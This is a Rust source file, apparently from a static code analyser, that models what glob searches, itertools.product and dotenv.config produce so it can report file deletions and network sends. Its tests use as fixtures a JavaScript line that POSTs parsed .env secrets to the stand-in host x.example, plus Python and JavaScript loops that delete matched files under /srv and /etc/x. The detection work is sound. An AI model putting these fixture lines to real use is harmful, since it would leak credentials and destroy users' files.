//! What searches for files, and functions that put lists together, give: each of what is found.

use std::rc::Rc;

use super::call::Given;
use super::role::Slot;
use super::value::{Held, Value};
use super::walk::Walk;
use crate::analysis::Flow;
use crate::text::{Piece, Text};

/// Patterns of one search that are told apart.
const PATTERNS: usize = 8;

impl Walk<'_, '_> {
    /// What a search or a combination gives; nothing for other functions.
    pub(super) fn searched(&self, name: &str, given: &Given) -> Option<Value> {
        match name {
            "glob" | "globby" | "glob.glob" | "glob.iglob" => Some(files(given)),
            "itertools.product" | "itertools.zip_longest" | "more_itertools.interleave" => {
                // Any of the one with any of the other.
                let known = |arg: &Held| arg.items.is_some() || arg.flows.iter().next().is_some();
                let again = given.named.iter().any(|(key, _, _)| key == "repeat");
                let rows = || Rc::new(Value::list(given.args.iter().map(|arg| Rc::new(arg.any_item())).collect()));
                (!again && given.args.len() > 1 && given.args.iter().all(known)).then(|| Value::list(vec![rows()]))
            }
            // What is read from a file of settings is given back, too.
            "dotenv.config" | "dotenv.configDotenv" => {
                let told = given.slot(&Slot::Named("path")).map(|(path, _)| path.readings());
                let mut parsed = Value::default();
                for path in told.unwrap_or_else(|| vec![Text::known(".env")]) {
                    parsed.flows.add(&Flow::File { path: path.to_string() });
                }
                Some(Value::object(vec![("parsed".into(), Rc::new(parsed))]))
            }
            _ => None,
        }
    }
}

/// The files that a search finds: each is one that the pattern fits, in the folder that is searched.
fn files(given: &Given) -> Value {
    let told = ["cwd", "root_dir", "root"].into_iter().find_map(|key| given.slot(&Slot::Named(key)));
    let folders: Vec<Text> = told.map(|(folder, _)| folder.readings()).unwrap_or_default();
    let Some(wanted) = given.slot(&Slot::At(0, Some("pathname"))).map(|(wanted, _)| wanted) else {
        return Value::list(Vec::new());
    };
    let patterns: Vec<Text> = match &wanted.items {
        Some(items) => items.iter().take(PATTERNS).flat_map(|item| item.readings()).collect(),
        None => wanted.readings(),
    };
    let mut found = Value::default();
    for pattern in patterns.iter().take(PATTERNS).filter(|pattern| !pattern.known_start().starts_with('!')) {
        let pattern = as_pattern(pattern);
        let is_whole = pattern.known_start().starts_with(['/', '~']) || folders.is_empty();
        if is_whole {
            found.texts.push(pattern);
            continue;
        }
        for folder in folders.iter().take(2) {
            let mut path = folder.clone();
            if !path.known_end().ends_with('/') {
                path.push(Piece::Known("/".to_owned()));
            }
            path.append(pattern.clone());
            found.texts.push(path);
        }
    }
    Value::list(vec![Rc::new(found)])
}

/// A text with its parts that stand for many names told as such.
fn as_pattern(text: &Text) -> Text {
    let mut whole = Text::default();
    for piece in text.pieces() {
        let Piece::Known(known) = piece else {
            whole.push(piece.clone());
            continue;
        };
        for (at, part) in known.split('/').enumerate() {
            if at > 0 {
                whole.push(Piece::Known("/".to_owned()));
            }
            let is_pattern = part.contains(['*', '?', '[', '{']);
            whole.push(if is_pattern { Piece::Pattern(part.to_owned()) } else { Piece::Known(part.to_owned()) });
        }
    }
    whole
}

#[cfg(test)]
mod tests {
    use crate::code::told::facts;
    use crate::language::Language;

    fn has(language: Language, source: &str, line: &str) {
        let lines = facts(language, source);
        assert!(lines.iter().any(|told| told == line), "{line} in {lines:#?} of\n{source}");
    }

    #[test]
    fn what_a_search_finds_lies_in_the_folder_that_is_searched() {
        let source = "const { globby } = require('globby'); const fs = require('fs');\n\
            for (const f of await globby(['**/*.doc', '!a'], { cwd: '/srv' })) fs.unlinkSync(f);";
        has(Language::JavaScript, source, "removes One /srv/**/*.doc");
        let source = "import glob, os\nfor f in glob.glob('*.log', root_dir='/srv') + ['/etc/x']:\n    os.remove(f)";
        has(Language::Python, source, "removes One /etc/x");
        has(Language::Python, source, "removes One /srv/*.log");
    }

    #[test]
    fn any_of_one_list_goes_with_any_of_another() {
        let source = "from itertools import product\nimport os\n\
            for d, f in product(['/srv'], ['a', 'b']):\n    os.remove(os.path.join(d, f))";
        has(Language::Python, source, "removes One /srv/b");
    }

    #[test]
    fn settings_that_are_read_from_a_file_come_from_there() {
        let source = "fetch('https://x.example', { method: 'POST', body: require('dotenv').config().parsed })";
        has(Language::JavaScript, source, "contacts Send https://x.example [File .env]");
    }
}
